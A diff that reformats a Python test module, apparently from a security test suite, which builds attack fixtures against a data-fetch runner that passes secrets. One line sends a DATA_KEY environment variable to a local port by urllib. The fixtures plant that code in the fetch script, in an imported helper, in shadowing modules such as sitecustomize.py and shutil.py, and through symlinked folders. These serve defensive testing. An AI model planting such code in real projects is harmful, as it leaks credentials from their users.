@@ -8,7 +8,10 @@ from tests.attacks.bait import Bait
 from tests.attacks.commits import Entry, Link
 
 FETCH: dict[str, object] = {
-    "data": {"fetch": {"run": "python3 tools/fetch.py", "secrets": ["DATA_KEY"], "network": True}, "path": "got/rows.csv"}
+    "data": {
+        "fetch": {"run": "python3 tools/fetch.py", "secrets": ["DATA_KEY"], "network": True},
+        "path": "got/rows.csv",
+    }
 }
 SCRIPT = """\
 import os
@@ -29,8 +32,12 @@ urllib.request.urlopen("http://127.0.0.1:PORT/?" + os.environ.get("DATA_KEY", "n
 
 def main(_bait: Bait) -> Files:
     """A project whose data a script brings."""
-    return {"tools/fetch.py": SCRIPT, "tools/helper.py": 'SOURCE = "store/rows.csv"\n', "store/rows.csv": project.ROWS_CSV,
-            "data/rows.csv": None}
+    return {
+        "tools/fetch.py": SCRIPT,
+        "tools/helper.py": 'SOURCE = "store/rows.csv"\n',
+        "store/rows.csv": project.ROWS_CSV,
+        "data/rows.csv": None,
+    }
 
 
 def _sends(*names: str) -> Callable[[Bait], Files]:
@@ -51,10 +58,18 @@ def _attack(name: str, change: Callable[[Bait], Files], *, slow: bool = True) ->
 ATTACKS = (
     _attack("a fetch script of head's", _sends("tools/fetch.py"), slow=False),
     _attack("a module that the fetch script imports", _sends("tools/helper.py")),
-    _attack("modules beside the fetch script", _sends("tools/shutil.py", "tools/sitecustomize.py", "shutil.py", "helper.py")),
+    _attack(
+        "modules beside the fetch script", _sends("tools/shutil.py", "tools/sitecustomize.py", "shutil.py", "helper.py")
+    ),
     _attack("a fetch script that is a link", _by_link),
-    _attack("a folder of fetch scripts that is a link", lambda bait: {
-        "tools/fetch.py": None, "tools/helper.py": None, "tools": Link("evil"),
-        "evil/fetch.py": SEND.replace("PORT", str(bait.port)) + SCRIPT, "evil/helper.py": SCRIPTS["tools/helper.py"],
-    }),
+    _attack(
+        "a folder of fetch scripts that is a link",
+        lambda bait: {
+            "tools/fetch.py": None,
+            "tools/helper.py": None,
+            "tools": Link("evil"),
+            "evil/fetch.py": SEND.replace("PORT", str(bait.port)) + SCRIPT,
+            "evil/helper.py": SCRIPTS["tools/helper.py"],
+        },
+    ),
 )
